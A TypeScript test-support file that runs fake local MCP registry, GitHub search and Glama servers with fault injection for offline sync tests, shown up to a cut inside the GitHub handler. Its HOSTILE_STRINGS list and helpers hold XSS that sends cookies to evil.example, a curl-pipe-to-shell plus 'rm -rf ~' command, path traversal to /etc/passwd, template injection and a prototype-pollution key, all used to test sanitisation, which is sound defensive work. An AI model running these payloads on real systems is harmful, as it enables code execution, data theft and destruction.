/**
 * Loopback replays of the registries the catalog syncs from: the official MCP registry API
 * v0.1 (also a private sub-registry behind a bearer token), GitHub repository search and
 * Glama's directory. They serve the real data in test/fixtures/registry with the semantics
 * its PROVENANCE.md records, and inject faults on request, so sync tests run offline against
 * what the real services do. Every server listens on 127.0.0.1:0 and `close()` drops all
 * sockets, hung ones included, so mocha can exit.
 */
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import type { ServerStatus } from '../../common/registry/model';

// From test/support, or from a bundle in .bench-build (a sibling of test/, for benchmarks).
const FIXTURES = [path.join(__dirname, '..', 'fixtures', 'registry'), path.join(__dirname, '..', 'test', 'fixtures', 'registry')].find((dir) => fs.existsSync(dir))!;
const OFFICIAL = 'io.modelcontextprotocol.registry/official';

// ---------------------------------------------------------------------------------------
// Shapes served

/** The registry-managed block of a listed version. */
export interface OfficialMeta {
  status: ServerStatus;
  statusMessage?: string;
  statusChangedAt?: string;
  publishedAt: string;
  updatedAt: string;
  isLatest: boolean;
}

/** A server.json as published; real entries carry shape defects, so only name and version are relied on. */
export interface ServerJson {
  name: string;
  version: string;
  [field: string]: unknown;
}

/** One item of a v0.1 list: the server.json and the registry's metadata. */
export interface V01Item {
  server: ServerJson;
  _meta: { [OFFICIAL]: OfficialMeta; [extension: string]: unknown };
}

/** One `/search/repositories` item (the fields the catalog reads, plus whatever else it carries). */
export interface GitHubRepo {
  id: number;
  name: string;
  full_name: string;
  owner: { login: string };
  html_url: string;
  description: string | null;
  homepage: string | null;
  stargazers_count: number;
  forks_count: number;
  license: { key?: string; name: string; spdx_id: string; url?: string | null } | null;
  archived: boolean;
  pushed_at: string;
  topics: string[];
  [field: string]: unknown;
}

/** A Glama `McpServer` (glama-mcp-api.json). */
export interface GlamaServer {
  id: string;
  name: string;
  namespace: string;
  slug: string;
  description: string;
  url: string;
  repository: { url: string } | null;
  spdxLicense: { name: string; url: string } | null;
  tools: { name: string; description: string | null; inputSchema?: unknown }[];
  attributes: string[];
  environmentVariablesJsonSchema: { type: 'object'; properties: Record<string, { type: string; description: string; default?: string }>; required?: string[] } | null;
}

// ---------------------------------------------------------------------------------------
// Fixtures

const cache = new Map<string, string>();

/** Parses a fixture afresh each call (callers may mutate), reading the file once. */
function fixture<T>(file: string): T {
  if (!cache.has(file)) cache.set(file, fs.readFileSync(path.join(FIXTURES, file), 'utf8'));
  return JSON.parse(cache.get(file)!) as T;
}

/** The 789 real registry versions in today's v0.1 envelope, sorted by (name, version). */
export function loadOfficialItems(): V01Item[] {
  return fixture<{ servers: V01Item[] }>('derived/production_servers.v0.1-envelope.json').servers;
}

/** One GitHub search item per distinct github.com repository of the official data (partly derived). */
export function loadGitHubRepos(): GitHubRepo[] {
  return fixture<{ items: GitHubRepo[] }>('derived/github-repos.json').items;
}

/** Glama directory entries: 200 sharing repositories with the official data, 20 only in Glama (partly derived). */
export function loadGlamaServers(): GlamaServer[] {
  return fixture<{ servers: GlamaServer[] }>('derived/glama-servers.json').servers;
}

/**
 * `n` distinct servers made from the real ones for benchmarks: copy k > 0 of an entry gets
 * `-copyk` on its name and repository (`…/repo-copyk.git` keeps a `.git`; an empty URL stays
 * empty; plain `-k` would collide with real names such as `…-tech-1`), so every shape defect
 * of the originals survives. Copies share nested objects: read only.
 */
export function syntheticOfficialItems(n: number): V01Item[] {
  const real = loadOfficialItems();
  const items: V01Item[] = [];
  for (let i = 0; i < n; i++) {
    const copy = Math.floor(i / real.length);
    const item = real[i % real.length]!;
    items.push(copy === 0 ? item : { ...item, server: renamed(item.server, copy) });
  }
  return keepOneLatest(items);
}

/**
 * The server renamed with a numeric suffix on its name, repository, package identifiers and remote URLs: a copy
 * must be another server for the catalog's deduplication too, not the same package under a new name.
 */
function renamed(server: ServerJson, k: number): ServerJson {
  const repository = server.repository as { url?: unknown } | undefined;
  const url = typeof repository?.url === 'string' ? repository.url : '';
  const suffixed = url.replace(/^(https?:\/\/[^/]+\/[^/]+\/[^/?#]+?)(\.git)?([/?#].*)?$/, `$1-copy${k}$2$3`);
  const packages = Array.isArray(server.packages)
    ? server.packages.map((p: Record<string, unknown>) => (typeof p?.identifier === 'string' ? { ...p, identifier: copyIdentifier(p.identifier, k) } : p))
    : server.packages;
  const remotes = Array.isArray(server.remotes)
    ? server.remotes.map((r: Record<string, unknown>) => (typeof r?.url === 'string' ? { ...r, url: r.url.replace(/\/?(\?.*)?$/, `/copy${k}$1`) } : r))
    : server.remotes;
  return {
    ...server,
    name: `${server.name}-copy${k}`,
    ...(url ? { repository: { ...repository, url: suffixed } } : {}),
    ...(packages !== undefined && { packages }),
    ...(remotes !== undefined && { remotes }),
  };
}

/** A package identifier with a copy suffix before any tag or version (`img:1.0` → `img-copy2:1.0`; a bundle URL's file too). */
function copyIdentifier(identifier: string, k: number): string {
  if (/^https?:\/\//.test(identifier)) return identifier.replace(/(\.[a-z]+)?$/, `-copy${k}$1`);
  return identifier.replace(/^(@?[^@:]+)(.*)$/, `$1-copy${k}$2`);
}

/** A cut-off last copy may hold a server without its latest version: mark its newest one latest. */
function keepOneLatest(items: V01Item[]): V01Item[] {
  const last = items.at(-1);
  if (!last) return items;
  const versions = items.filter((item) => item.server.name === last.server.name);
  if (versions.some((item) => meta(item).isLatest)) return items;
  const newest = versions.reduce((a, b) => (compareInstants(meta(b).publishedAt, meta(a).publishedAt) > 0 ? b : a));
  items[items.indexOf(newest)] = withMeta(newest, { isLatest: true });
  return items;
}

// ---------------------------------------------------------------------------------------
// Faults

/** What a fault scope covers: the next `times` requests (default 1), optionally only those whose path and query match. */
export interface FaultScope {
  times?: number;
  path?: string | RegExp;
}

/** Faults queued on a replay; each request takes the first queued fault whose scope matches. */
export interface FaultControl {
  /** Answers with this status; the body defaults to the service's own error shape. */
  status(code: number, options?: FaultScope & { retryAfter?: number; body?: unknown }): void;
  /** Accepts the request and never answers. */
  hang(options?: FaultScope): void;
  /** Answers normally after `ms`. */
  delay(ms: number, options?: FaultScope): void;
  /** 200 with the normal body cut in half: invalid JSON. */
  malformed(options?: FaultScope): void;
  /** 200 streaming a body that starts like the real one and runs to `bytes` bytes. */
  oversized(bytes: number, options?: FaultScope): void;
  /** 200 with the normal body whose strings carry markup, ANSI escapes, control characters, shell metacharacters and a 256 KiB string. */
  hostile(options?: FaultScope): void;
  /** 200 JSON of the wrong shape; successive uses of one queued fault go through the service's variants. */
  wrongShape(options?: FaultScope): void;
  /** Drops every queued fault. */
  clear(): void;
}

type FaultKind = 'status' | 'hang' | 'delay' | 'malformed' | 'oversized' | 'hostile' | 'wrongShape';

type Fault =
  | { kind: 'status'; code: number; retryAfter?: number; body?: unknown }
  | { kind: 'hang' | 'malformed' | 'hostile' | 'wrongShape' }
  | { kind: 'delay'; ms: number }
  | { kind: 'oversized'; bytes: number };

interface Queued {
  fault: Fault;
  left: number;
  used: number;
  path?: string | RegExp;
}

/** Payloads a hostile registry appends to its strings; exported so tests can check none reaches the user raw. */
export const HOSTILE_STRINGS: readonly string[] = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`https://evil.example/?c=${document.cookie}`)">',
  '\u001b[2J\u001b[31mPWNED\u001b[0m \u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  'nul\u0000 bel\u0007 bs\u0008 cr\r lf\n del\u007f rlo\u202eexe.txt',
  '$(curl -s https://evil.example/x | sh); `id` && rm -rf ~ | tee ~/.bashrc > /dev/null',
  '../../../../etc/passwd',
  '{{constructor.constructor("return process")().exit()}}',
  'javascript:alert(1)',
];

/** Length of the one absurdly long string a hostile body carries. */
export const HOSTILE_LONG_LENGTH = 256 * 1024;

/** `value` with a hostile payload appended to every string outside `keep` keys; the first string of a body gets the long one. */
function poison(value: unknown, keep: ReadonlySet<string>, counter: { n: number }): unknown {
  if (typeof value === 'string') {
    const n = counter.n++;
    return `${value} ${n === 0 ? 'A'.repeat(HOSTILE_LONG_LENGTH) : HOSTILE_STRINGS[n % HOSTILE_STRINGS.length]}`;
  }
  if (Array.isArray(value)) return value.map((v) => poison(v, keep, counter));
  if (value === null || typeof value !== 'object') return value;
  const out: Record<string, unknown> = {};
  for (const [key, v] of Object.entries(value)) out[key] = keep.has(key) ? v : poison(v, keep, counter);
  return out;
}

/** A prototype-pollution attempt as JSON.parse would produce it: an own `__proto__` key. */
function withProtoKey(item: unknown): unknown {
  if (item === null || typeof item !== 'object' || Array.isArray(item)) return item;
  return Object.defineProperty({ ...item }, '__proto__', { value: { polluted: true }, enumerable: true, writable: true, configurable: true });
}

/** Queues faults (`control`) and hands each request the first one whose scope matches (`take`). */
function faultQueue(): { control: FaultControl; take(target: string): { fault: Fault; use: number } | undefined } {
  let queue: Queued[] = [];
  const add = (fault: Fault, scope: FaultScope = {}) => queue.push({ fault, left: scope.times ?? 1, used: 0, path: scope.path });
  const matches = (q: Queued, target: string) => q.path === undefined || (typeof q.path === 'string' ? target.includes(q.path) : q.path.test(target));
  const control: FaultControl = {
    status: (code, options = {}) => add({ kind: 'status', code, retryAfter: options.retryAfter, body: options.body }, options),
    hang: (options) => add({ kind: 'hang' }, options),
    delay: (ms, options) => add({ kind: 'delay', ms }, options),
    malformed: (options) => add({ kind: 'malformed' }, options),
    oversized: (bytes, options) => add({ kind: 'oversized', bytes }, options),
    hostile: (options) => add({ kind: 'hostile' }, options),
    wrongShape: (options) => add({ kind: 'wrongShape' }, options),
    clear: () => void (queue = []),
  };
  return {
    control,
    take(target: string) {
      const q = queue.find((candidate) => matches(candidate, target));
      if (!q) return undefined;
      if (--q.left <= 0) queue = queue.filter((other) => other !== q);
      return { fault: q.fault, use: q.used++ };
    },
  };
}

// ---------------------------------------------------------------------------------------
// The HTTP scaffold every replay shares

/** One request as the replay saw it. */
export interface RecordedRequest {
  method: string;
  /** Raw path, percent-encoding kept (e.g. `/v0.1/servers/io.github.x%2Fy/versions`). */
  path: string;
  query: Record<string, string>;
  headers: http.IncomingHttpHeaders;
  /** `Date.now()` on arrival. */
  at: number;
  /** The fault it got, if any. */
  fault?: FaultKind;
}

/** A running replay. */
export interface ReplayServer {
  /** Base URL, e.g. `http://127.0.0.1:43123` (no trailing slash). */
  url: string;
  requests: RecordedRequest[];
  faults: FaultControl;
  close(): Promise<void>;
}

interface Reply {
  status: number;
  body: unknown;
  headers?: Record<string, string | number>;
  /** Content type when not `application/json` (plain text bodies are sent as given). */
  type?: string;
}

interface Incoming {
  method: string;
  url: URL;
  headers: http.IncomingHttpHeaders;
}

/** What a replay serves, and how its faults look in its own terms. */
interface Service {
  handle(request: Incoming, base: string): Reply;
  /** Its error body for a status. */
  error(status: number, message: string): unknown;
  /** Where a list response keeps its items. */
  listKey: string;
  /** Keys a hostile body leaves intact so paging and identity still work. */
  keep: ReadonlySet<string>;
  /** JSON of the wrong shape, in the order successive uses serve them. */
  wrongShapes: unknown[];
}

const json = (status: number, body: unknown, headers?: Record<string, string | number>): Reply => ({ status, body, headers });

/** Writes a reply with an exact content length. */
function send(res: http.ServerResponse, reply: Reply): void {
  if (res.destroyed) return;
  const text = reply.type && typeof reply.body === 'string' ? reply.body : JSON.stringify(reply.body);
  res.writeHead(reply.status, { 'content-type': reply.type ?? 'application/json; charset=utf-8', 'content-length': Buffer.byteLength(text), ...reply.headers });
  res.end(text);
}

/** Resolves once `res` can take more data or has closed. */
function drained(res: http.ServerResponse): Promise<void> {
  return new Promise((resolve) => {
    const done = () => (res.off('drain', done), res.off('close', done), resolve());
    res.on('drain', done);
    res.on('close', done);
  });
}

/** Streams `bytes` bytes that open like a list of `sample` items, then stops (the JSON never closes). */
async function sendOversized(res: http.ServerResponse, listKey: string, sample: unknown, bytes: number): Promise<void> {
  res.writeHead(200, { 'content-type': 'application/json; charset=utf-8' });
  const head = Buffer.from(`{"${listKey}":[`);
  const unit = Buffer.from(`${JSON.stringify(sample ?? {})},`);
  const chunk = Buffer.concat([head, ...Array.from({ length: Math.ceil(65_536 / unit.length) }, () => unit)]);
  let sent = 0;
  let first = true;
  while (sent < bytes && !res.destroyed) {
    const piece = first ? chunk : chunk.subarray(head.length);
    first = false;
    const part = piece.subarray(0, bytes - sent);
    sent += part.length;
    if (!res.write(part)) await drained(res);
  }
  res.end();
}

/** The items of a list body; undefined for a single-object one. */
function itemsOf(body: unknown, listKey: string): unknown[] | undefined {
  const list = (body as Record<string, unknown> | null)?.[listKey];
  return Array.isArray(list) ? list : undefined;
}

/** Starts `service` on 127.0.0.1 with request recording and fault injection. */
async function startReplay<Extra extends object>(service: Service, extra: Extra): Promise<ReplayServer & Extra> {
  const requests: RecordedRequest[] = [];
  const faults = faultQueue();
  const timers = new Set<NodeJS.Timeout>();
  let base = '';

  const server = http.createServer((req, res) => {
    const url = new URL(req.url ?? '/', base);
    const taken = faults.take(url.pathname + url.search);
    requests.push({ method: req.method ?? 'GET', path: url.pathname, query: Object.fromEntries(url.searchParams), headers: req.headers, at: Date.now(), fault: taken?.fault.kind });
    const incoming: Incoming = { method: req.method ?? 'GET', url, headers: req.headers };
    const normal = () => service.handle(incoming, base);
    if (!taken) return send(res, normal());
    const { fault, use } = taken;
    switch (fault.kind) {
      case 'status': {
        const headers = fault.retryAfter === undefined ? undefined : { 'retry-after': fault.retryAfter };
        return send(res, json(fault.code, fault.body ?? service.error(fault.code, `injected ${fault.code}`), headers));
      }
      case 'hang':
        return; // close() destroys the socket
      case 'delay': {
        const timer = setTimeout(() => (timers.delete(timer), send(res, normal())), fault.ms);
        timers.add(timer);
        return;
      }
      case 'malformed': {
        const text = JSON.stringify(normal().body);
        return send(res, { status: 200, body: text.slice(0, Math.max(1, Math.floor(text.length / 2))), type: 'application/json; charset=utf-8' });
      }
      case 'oversized': {
        const body = normal().body;
        void sendOversized(res, service.listKey, itemsOf(body, service.listKey)?.[0] ?? body, fault.bytes);
        return;
      }
      case 'hostile': {
        const body = normal().body;
        const items = itemsOf(body, service.listKey);
        const counter = { n: 0 };
        const poisoned = items
          ? { ...(body as object), [service.listKey]: items.map((item, i) => (i === 0 ? withProtoKey(poison(item, service.keep, counter)) : poison(item, service.keep, counter))) }
          : withProtoKey(poison(body, service.keep, counter));
        return send(res, json(200, poisoned));
      }
      case 'wrongShape':
        return send(res, json(200, service.wrongShapes[use % service.wrongShapes.length]));
    }
  });

  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return Object.assign(extra, {
    url: base,
    requests,
    faults: faults.control,
    close: () =>
      new Promise<void>((resolve) => {
        for (const timer of timers) clearTimeout(timer);
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  });
}

/** A fixed one-minute window per caller, as GitHub and the registry meter requests. */
function rateWindow() {
  const windows = new Map<string, { start: number; used: number }>();
  return (key: string, limit: number) => {
    const now = Date.now();
    let window = windows.get(key);
    if (!window || now - window.start >= 60_000) windows.set(key, (window = { start: now, used: 0 }));
    const allowed = window.used < limit;
    if (allowed) window.used++;
    const reset = Math.ceil((window.start + 60_000) / 1000);
    return { allowed, limit, used: window.used, remaining: limit - window.used, reset, retryAfter: Math.max(1, reset - Math.floor(now / 1000)) };
  };
}

// ---------------------------------------------------------------------------------------
// Official registry (v0.1)

const RFC3339 = /^(\d{4})-(\d{2})-(\d{2})T(\d{2}):(\d{2}):(\d{2})(?:\.(\d{1,9}))?(?:Z|([+-])(\d{2}):(\d{2}))$/;
const instants = new Map<string, bigint | undefined>();

/** Nanoseconds since the epoch of an RFC 3339 timestamp as Go's time.RFC3339 parses it, else undefined (cached: timestamps repeat). */
function instant(text: string): bigint | undefined {
  if (instants.has(text)) return instants.get(text);
  const m = RFC3339.exec(text);
  let result: bigint | undefined;
  if (m) {
    const [year, month, day, hour, minute, second] = m.slice(1, 7).map(Number) as [number, number, number, number, number, number];
    const date = new Date(Date.UTC(year, month - 1, day, hour, minute, second));
    const offset = m[8] ? (m[8] === '-' ? -1 : 1) * (Number(m[9]) * 60 + Number(m[10])) : 0;
    const valid = date.getUTCMonth() === month - 1 && date.getUTCDate() === day && hour < 24 && minute < 60 && second < 60 && Number(m[9] ?? 0) < 24 && Number(m[10] ?? 0) < 60;
    if (valid) result = BigInt(date.getTime() / 1000 - offset * 60) * 1_000_000_000n + BigInt((m[7] ?? '').padEnd(9, '0'));
  }
  instants.set(text, result);
  return result;
}

/** An item timestamp as an instant; unparsable ones sort first. */
const instantOf = (text: string | undefined) => (text === undefined ? undefined : instant(text)) ?? 0n;

/** Orders two item timestamps by the instant they name. */
function compareInstants(a: string | undefined, b: string | undefined): number {
  const x = instantOf(a);
  const y = instantOf(b);
  return x < y ? -1 : x > y ? 1 : 0;
}

const meta = (item: V01Item) => item._meta[OFFICIAL];

/** A copy of the item with its registry metadata changed (items are never mutated in place). */
const withMeta = (item: V01Item, change: Partial<OfficialMeta>): V01Item => ({ ...item, _meta: { ...item._meta, [OFFICIAL]: { ...meta(item), ...change } } });

/** Text order as the registry's `ORDER BY server_name, version` (code units: the C collation). */
const byText = (a: string, b: string) => (a < b ? -1 : a > b ? 1 : 0);
const byNameVersion = (a: V01Item, b: V01Item) => byText(a.server.name, b.server.name) || byText(a.server.version, b.server.version);

/** Postgres ILIKE '%search%': case-insensitive, `%` and `_` are wildcards, `\` escapes. */
function ilike(search: string): RegExp {
  const source = search.replace(/\\(.)|([%_])|([.*+?^${}()|[\]\\/])/gs, (_, escaped: string, wild: string, special: string) =>
    escaped !== undefined ? escaped.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&') : wild === '%' ? '.*' : wild === '_' ? '.' : `\\${special}`,
  );
  return new RegExp(source, 'is');
}

/** A huma problem+json reply (the registry's error shape); `errors` only when there are details, as huma omits it. */
function problem(base: string, status: number, detail: string, errors?: { message: string; location?: string; value?: unknown }[]): Reply {
  const body = { $schema: `${base}/schemas/ErrorModel.json`, title: http.STATUS_CODES[status], status, detail, ...(errors ? { errors } : {}) };
  return { status, body, type: 'application/problem+json' };
}

/** huma's query parsing: `invalid integer`, then the schema's minimum and maximum. */
function limitParam(value: string | null): number | { message: string; value: unknown } {
  if (value === null || value === '') return 30;
  if (!/^[+-]?\d+$/.test(value)) return { message: 'invalid integer', value };
  const limit = Number(value);
  if (limit < 1) return { message: 'expected number >= 1', value: limit };
  if (limit > 100) return { message: 'expected number <= 100', value: limit };
  return limit;
}

/** Go's strconv.ParseBool, as huma parses boolean query parameters. */
function boolParam(value: string | null): boolean | undefined | 'invalid' {
  if (value === null || value === '') return undefined;
  if (['1', 't', 'T', 'TRUE', 'true', 'True'].includes(value)) return true;
  if (['0', 'f', 'F', 'FALSE', 'false', 'False'].includes(value)) return false;
  return 'invalid';
}

/** A running official registry replay, with helpers that change its data as the registry would. */
export interface OfficialRegistryReplay extends ReplayServer {
  /** Adds the item, or replaces the one with the same name and version. */
  upsert(item: V01Item): void;
  /** Sets a version's status (message kept only when given); statusChangedAt and updatedAt become `at` (default now). */
  setStatus(name: string, version: string, status: ServerStatus, message?: string, at?: string): void;
  /**
   * Publishes a new version as active, published and updated `at` (default now). With `isLatest`
   * (default true) the other versions lose isLatest without their updatedAt changing, as the
   * registry's UnmarkAsLatest does today; `touchPrevious` also bumps theirs, as the recorded
   * September 2025 data shows the registry did then.
   */
  publish(server: ServerJson, options?: { isLatest?: boolean; at?: string; touchPrevious?: boolean }): V01Item;
}

/**
 * Serves `GET /v0.1/servers` and `/v0.1/servers/{name}/versions[/{version|latest}]` over `items`
 * (default: the 789 real ones) as the official registry does. `token` makes it a private
 * sub-registry (401 without `Authorization: Bearer <token>`); `perMinute` rate-limits it
 * (the real registry allows 180 per minute per IP, then 429).
 */
export function startOfficialRegistry(options: { items?: V01Item[]; token?: string; perMinute?: number } = {}): Promise<OfficialRegistryReplay> {
  let items = [...(options.items ?? loadOfficialItems())].sort(byNameVersion);
  const hit = rateWindow();

  const put = (item: V01Item) => {
    items = items.filter((other) => byNameVersion(other, item) !== 0);
    items.push(item);
    items.sort(byNameVersion);
  };
  const visible = (item: V01Item, includeDeleted: boolean) => includeDeleted || meta(item).status !== 'deleted';

  /** Index of the first item after the cursor `name:version` (or after `name` when it has no colon). */
  const after = (cursor: string) => {
    const colon = cursor.indexOf(':');
    const [name, version] = colon < 0 ? [cursor, undefined] : [cursor.slice(0, colon), cursor.slice(colon + 1)];
    let lo = 0;
    let hi = items.length;
    while (lo < hi) {
      const mid = (lo + hi) >> 1;
      const s = items[mid]!.server;
      const past = s.name > name || (version !== undefined && s.name === name && s.version > version);
      if (past) hi = mid;
      else lo = mid + 1;
    }
    return lo;
  };

  const list = (query: URLSearchParams, base: string): Reply => {
    const limit = limitParam(query.get('limit'));
    const includeParam = boolParam(query.get('include_deleted'));
    const invalid = [
      ...(typeof limit === 'number' ? [] : [{ ...limit, location: 'query.limit' }]),
      ...(includeParam === 'invalid' ? [{ message: 'invalid boolean', location: 'query.include_deleted', value: query.get('include_deleted') }] : []),
    ];
    if (invalid.length > 0 || typeof limit !== 'number') return problem(base, 422, 'validation failed', invalid);
    const sinceText = query.get('updated_since') ?? '';
    const since = sinceText ? instant(sinceText) : undefined;
    if (sinceText && since === undefined) return problem(base, 400, 'Invalid updated_since format: expected RFC3339 timestamp (e.g., 2025-08-07T13:15:04.280Z)');
    if (since !== undefined && includeParam === false) return problem(base, 400, 'Cannot set include_deleted=false when using updated_since (incremental sync requires deleted servers)');
    const includeDeleted = since !== undefined || includeParam === true;
    const search = query.get('search') ? ilike(query.get('search')!) : undefined;
    const version = query.get('version') ?? '';
    const cursor = query.get('cursor') ?? '';

    const page: V01Item[] = [];
    for (let i = cursor ? after(cursor) : 0; i < items.length && page.length < limit; i++) {
      const item = items[i]!;
      const m = meta(item);
      if (!visible(item, includeDeleted)) continue;
      if (since !== undefined && instantOf(m.updatedAt) <= since) continue;
      if (search && !search.test(item.server.name)) continue;
      if (version === 'latest' ? !m.isLatest : version !== '' && item.server.version !== version) continue;
      page.push(item);
    }
    const last = page.at(-1);
    const nextCursor = last && page.length >= limit ? `${last.server.name}:${last.server.version}` : undefined;
    return json(200, { servers: page, metadata: { ...(nextCursor ? { nextCursor } : {}), count: page.length } });
  };

  const versions = (name: string, version: string | undefined, includeDeleted: boolean, base: string): Reply => {
    const found = items.filter((item) => item.server.name === name && visible(item, includeDeleted));
    if (version === undefined) {
      if (found.length === 0) return problem(base, 404, 'Server not found');
      const newestFirst = found.sort((a, b) => compareInstants(meta(b).publishedAt, meta(a).publishedAt));
      return json(200, { servers: newestFirst, metadata: { count: newestFirst.length } });
    }
    const item = found.find((candidate) => (version === 'latest' ? meta(candidate).isLatest : candidate.server.version === version));
    return item ? json(200, item) : problem(base, 404, 'Server not found');
  };

  const service: Service = {
    listKey: 'servers',
    keep: new Set(['name', 'version', 'status', 'publishedAt', 'updatedAt', 'statusChangedAt']),
    wrongShapes: [
      { servers: null, metadata: { count: 0 } },
      { servers: { 'io.github.x/y': {} }, metadata: {} },
      [],
      { servers: [null, 1, 'server', { server: null, _meta: {} }], metadata: { nextCursor: 42, count: '4' } },
      { data: [], next_cursor: 'x' },
    ],
    error: (status, message) => ({ title: http.STATUS_CODES[status], status, detail: message }),
    handle({ method, url, headers }, base) {
      if (options.token !== undefined && headers.authorization !== `Bearer ${options.token}`) {
        const reply = problem(base, 401, 'Invalid or missing bearer token');
        return { ...reply, headers: { 'www-authenticate': 'Bearer' } };
      }
      if (options.perMinute !== undefined) {
        const rate = hit('ip', options.perMinute);
        if (!rate.allowed) return { ...problem(base, 429, 'rate limit exceeded'), headers: { 'retry-after': rate.retryAfter } };
      }
      const parts = url.pathname.split('/');
      if (parts[1] !== 'v0.1' || parts[2] !== 'servers' || (parts.length > 3 && parts[4] !== 'versions') || parts.length > 6) {
        return { status: 404, body: '404 page not found\n', type: 'text/plain; charset=utf-8' };
      }
      if (method !== 'GET') return { status: 405, body: 'Method Not Allowed\n', type: 'text/plain; charset=utf-8' };
      if (parts.length === 3) return list(url.searchParams, base);
      const include = boolParam(url.searchParams.get('include_deleted'));
      if (include === 'invalid') return problem(base, 422, 'validation failed', [{ message: 'invalid boolean', location: 'query.include_deleted', value: url.searchParams.get('include_deleted') }]);
      try {
        return versions(decodeURIComponent(parts[3]!), parts[5] === undefined ? undefined : decodeURIComponent(parts[5]), include === true, base);
      } catch {
        return problem(base, 400, 'Invalid server name encoding');
      }
    },
  };

  return startReplay<Omit<OfficialRegistryReplay, keyof ReplayServer>>(service, {
    upsert: put,
    setStatus(name: string, version: string, status: ServerStatus, message?: string, at = new Date().toISOString()) {
      const item = items.find((candidate) => candidate.server.name === name && candidate.server.version === version);
      if (!item) throw new Error(`no ${name}@${version} in the replay`);
      const { statusMessage: _dropped, ...rest } = meta(item);
      put({ ...item, _meta: { ...item._meta, [OFFICIAL]: { ...rest, status, ...(message ? { statusMessage: message } : {}), statusChangedAt: at, updatedAt: at } } });
    },
    publish(server: ServerJson, { isLatest = true, at = new Date().toISOString(), touchPrevious = false } = {}) {
      if (isLatest) {
        for (const other of items.filter((candidate) => candidate.server.name === server.name && meta(candidate).isLatest)) {
          put(withMeta(other, touchPrevious ? { isLatest: false, updatedAt: at } : { isLatest: false }));
        }
      }
      const item: V01Item = { server, _meta: { [OFFICIAL]: { status: 'active', statusChangedAt: at, publishedAt: at, updatedAt: at, isLatest } } };
      put(item);
      return item;
    },
  });
}

// ---------------------------------------------------------------------------------------
// GitHub repository search

const GITHUB_DOCS = 'https://docs.github.com/rest';

/** `repos` with `copies - 1` suffixed copies of each (`name-copy2` …), to push total_count past the 1,000 cap. */
function replicated(repos: GitHubRepo[], copies: number): GitHubRepo[] {
  const out = [...repos];
  for (let k = 2; k <= copies; k++) {
    for (const repo of repos) {
      const name = `${repo.name}-copy${k}`;
      out.push({ ...repo, id: repo.id + k * 1_000_000_000, name, full_name: `${repo.owner.login}/${name}`, html_url: `https://github.com/${repo.owner.login}/${name}` });
    }
  }
  return out;
}

/** GitHub's search qualifiers the replay understands: `topic:` (all must hold), `archived:`, and free words in name or description. */
function matcher(q: string): (repo: GitHubRepo) => boolean {
  const terms = q.split(/\s+/).filter(Boolean);
  const topics = terms.filter((t) => t.startsWith('topic:')).map((t) => t.slice(6).toLowerCase());
  const archived = terms.find((t) => t.startsWith('archived:'))?.slice(9);
  const words = terms.filter((t) => !/^[a-z]+:/.test(t)).map((t) => t.toLowerCase());
  return (repo) =>
    topics.every((t) => repo.topics.includes(t)) &&
    (archived === undefined || String(repo.archived) === archived) &&
    words.every((w) => `${repo.name} ${repo.description ?? ''}`.toLowerCase().includes(w));
}

/** A running GitHub search replay. */
export type GitHubSearchReplay = ReplayServer;

/**
 * Serves `GET /search/repositories?q=&sort=stars&order=&per_page=&page=` over `repos` (default:
 * the derived fixture) as GitHub does: per_page at most 100, only the first 1,000 results
 * reachable (422 beyond), a Link header, and the search rate limit per minute (30 with a token
 * in `Authorization: Bearer|token …`, 10 without; 403 with x-ratelimit-remaining 0 and
 * retry-after once spent). With `token` set, another token gets 401 Bad credentials.
 * `copies` replicates every repository that many times to test the cap.
 */
export function startGitHubSearch(
  options: { repos?: GitHubRepo[]; token?: string; perMinuteWithToken?: number; perMinuteWithout?: number; copies?: number } = {},
): Promise<GitHubSearchReplay> {
  const repos = replicated(options.repos ?? loadGitHubRepos(), options.copies ?? 1);
  const hit = rateWindow();
  const message = (status: number, text: string, extra: object = {}) => ({ message: text, documentation_url: GITHUB_DOCS, status: String(status), ...extra });

  const service: Service = {
    listKey: 'items',
    keep: new Set(['full_name', 'created_at', 'updated_at', 'pushed_at']),
    wrongShapes: [
      { total_count: 3, incomplete_results: false, items: null },
      { total_count: 'many', items: { first: {} } },
      [],
      { total_count: 3, incomplete_results: false, items: [null, 1, { full_name: null, stargazers_count: '9' }] },
      { message: 'Moved Permanently', url: 'https://api.github.com/repositories/1' },
    ],
    error: (status, text) => message(status, text),
    handle({ url, headers }, base) {
      if (url.pathname !== '/search/repositories') return json(404, message(404, 'Not Found'));
      const presented = /^(?:bearer|token)\s+(.+)$/i.exec(headers.authorization ?? '')?.[1];
      if (presented !== undefined && options.token !== undefined && presented !== options.token) return json(401, message(401, 'Bad credentials'));
      const limit = presented === undefined ? (options.perMinuteWithout ?? 10) : (options.perMinuteWithToken ?? 30);
      const rate = hit(presented === undefined ? 'anonymous' : 'token', limit);
      const rateHeaders = { 'x-ratelimit-limit': rate.limit, 'x-ratelimit-remaining': rate.remaining, 'x-ratelimit-reset': rate.reset, 'x-ratelimit-used': rate.used, 'x-ratelimit-resource': 'search' };
      if (!rate.allowed) {
        const who = presented === undefined ? '127.0.0.1. (But here\'s the good news: Authenticated requests get a higher rate limit. Check out the documentation for more details.)' : 'user ID 1.';
        return json(403, { message: `API rate limit exceeded for ${who}`, documentation_url: `${GITHUB_DOCS}/overview/rate-limits-for-the-rest-api` }, { ...rateHeaders, 'retry-after': rate.retryAfter });
      }
      const q = url.searchParams.get('q') ?? '';
      if (!q.trim()) return json(422, message(422, 'Validation Failed', { errors: [{ resource: 'Search', field: 'q', code: 'missing' }] }), rateHeaders);
      const perPage = Math.min(100, Math.max(1, Number(url.searchParams.get('per_page')) || 30));
      const page = Math.max(1, Number(url.searchParams.get('page')) || 1);
      if ((page - 1) * perPage >= 1000) return json(422, message(422, 'Only the first 1000 search results are available'), rateHeaders);

      const found = repos.filter(matcher(q));
      if (url.searchParams.get('sort') === 'stars') {
        const sign = url.searchParams.get('order') === 'asc' ? 1 : -1;
        found.sort((a, b) => sign * (a.stargazers_count - b.stargazers_count) || byText(a.full_name, b.full_name));
      }
      const reachable = Math.min(found.length, 1000);
      const items = found.slice((page - 1) * perPage, Math.min(page * perPage, reachable));
      const lastPage = Math.max(1, Math.ceil(reachable / perPage));
